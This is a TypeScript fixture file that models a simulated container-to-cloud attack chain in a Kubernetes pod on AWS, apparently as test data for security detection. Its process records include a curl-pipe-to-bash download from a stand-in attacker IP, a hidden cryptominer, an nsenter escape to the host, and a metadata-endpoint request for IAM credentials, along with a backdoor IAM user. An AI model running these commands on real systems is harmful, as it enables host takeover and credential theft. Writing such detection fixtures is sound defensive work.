import { awsLabels, type Pod, type Process, podLabels } from '../../places.ts';

export const account = '123456789012';
export const attacker = '198.51.100.23';
export const node = 'ip-10-20-3-41.eu-west-1.compute.internal';
export const hostId = '0a58c2f1-host';
export const pod: Pod = {
  cluster: 'prod-eu-1',
  namespace: 'shop',
  workload: 'storefront',
  workloadType: 'deployment',
  name: 'storefront-7c9d8b6f5d-x2k4q',
  node,
  container: '3f2a9c81d7be',
  image: {
    repository: 'docker.io/acme/storefront',
    tag: '2.14.1',
    digest: 'sha256:9b1f0c5a7de2438f6a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f',
  },
};
const machine = {
  ...awsLabels(account, 'eu-west-1'),
  'aws.instanceId': 'i-0a1b2c3d4e5f60718',
  'host.mac': '0a:58:0a:14:03:29',
  'host.id': hostId,
};
export const inPod = { ...podLabels(pod), ...machine };
export const onNode = { 'kubernetes.cluster.name': pod.cluster, 'kubernetes.node.name': node, 'host.hostName': node, ...machine };

export const tini: Process = { name: 'tini', cmdline: 'tini -- catalina.sh run', pid: 1 };
export const java: Process = {
  name: 'java',
  cmdline: 'java -Dcatalina.base=/usr/local/tomcat org.apache.catalina.startup.Bootstrap start',
  pid: 31,
};
export const bash: Process = { name: 'bash', cmdline: `bash -c curl -s http://${attacker}/i.sh | bash`, pid: 48190 };
export const miner: Process = {
  name: 'kdevtmpfsi',
  cmdline: 'kdevtmpfsi -o pool.example:3333',
  pid: 48213,
  exe: '/dev/shm/.x/kdevtmpfsi',
  sha256: '6f6ad3f1a5b0c2d4e8f90123456789abcdef0123456789abcdef0123456789ab',
};
export const nsenter: Process = { name: 'nsenter', cmdline: 'nsenter -t 1 -m -u -n -i bash', pid: 48241 };
export const curl: Process = {
  name: 'curl',
  cmdline: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role-storefront',
  pid: 48260,
};

export const role = {
  user: 'ec2-role-storefront',
  arn: `arn:aws:sts::${account}:assumed-role/ec2-role-storefront/i-0a1b2c3d4e5f60718`,
  type: 'AssumedRole',
  account,
  accessKey: 'ASIAEXAMPLESTOREFRNT',
  ip: attacker,
  userAgent: 'aws-cli/2.17.9 Python/3.11.8 Linux/6.8.0',
};
export const backdoor = {
  ...role,
  user: 'backup-admin',
  arn: `arn:aws:iam::${account}:user/backup-admin`,
  type: 'IAMUser',
  accessKey: 'AKIAEXAMPLEBACKUP001',
};
